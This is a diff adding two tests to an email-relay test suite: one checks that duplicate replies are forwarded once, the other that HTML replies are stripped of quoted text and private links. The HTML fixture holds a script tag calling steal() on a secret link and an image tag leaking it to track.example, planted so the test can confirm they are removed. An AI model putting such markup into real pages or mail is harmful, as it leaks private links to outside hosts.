@@ -89,6 +89,48 @@ test('an answer gives no private link away, however it quotes the mail', async (
     expect(part).not.toContain(watch.slice(0, 30))
 })
 
+test('an answer that comes in twice goes on once', async () => {
+  const { world } = await aToldRally()
+  const told = lastTo(world, 'ada@example.org')
+  world.mails.length = 0
+  const answer = 'From: ada@example.org\nMessage-ID: <1@example.org>\n\nWhich door is it?\n'
+  await Promise.all([
+    received(world, told?.replyTo, answer),
+    received(world, told?.replyTo, answer),
+  ])
+  await world.work()
+  expect(await received(world, told?.replyTo, answer)).toBe('relayed')
+  await world.work()
+  expect(world.mails).toHaveLength(1)
+  await received(world, told?.replyTo, answer.replace('1@', '2@').replace('door', 'gate'))
+  await world.work()
+  expect(world.mails).toHaveLength(2)
+})
+
+test('an answer written as HTML alone goes on as its words, without what it quotes', async () => {
+  const { world, watch } = await aToldRally()
+  const told = lastTo(world, 'ada@example.org')
+  const secret = `https://turnout.example${watch}`
+  const html = `<html><head><title>Re</title><style>p { color: red }</style></head><body>
+<!-- ${secret} --><script>steal("${secret}")</script><img src="https://track.example/${secret}">
+<div dir="ltr">Which door is it?<br>¿La puerta de atr&aacute;s &#38; la rampa?</div>
+<p>See <a href="${secret}">this page</a> &lt;b&gt;</p>
+<div class="gmail_quote"><div>On Tuesday Turnout wrote:</div><blockquote>${told?.html}</blockquote></div>
+</body></html>`
+  const answer = `From: ada@example.org\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n${html}\n`
+  world.mails.length = 0
+  expect(await received(world, told?.replyTo, answer)).toBe('relayed')
+  await world.work()
+  const [mail] = world.mails
+  expect(mail?.text).toContain(
+    '“Which door is it?\n¿La puerta de atrás & la rampa?\n\nSee this page <b>”',
+  )
+  expect(mail?.html).toContain('See this page &lt;b&gt;')
+  for (const part of [mail?.text, mail?.html])
+    expect(part).not.toMatch(/steal|track|color: red|On Tuesday|790 Market/)
+  expect(mail?.text).not.toContain(watch.slice(7))
+})
+
 test('a forged address changes nothing', async () => {
   const { world, watch } = await aToldRally()
   const genuine = lastTo(world, 'ada@example.org')?.unsubscribeMail ?? ''
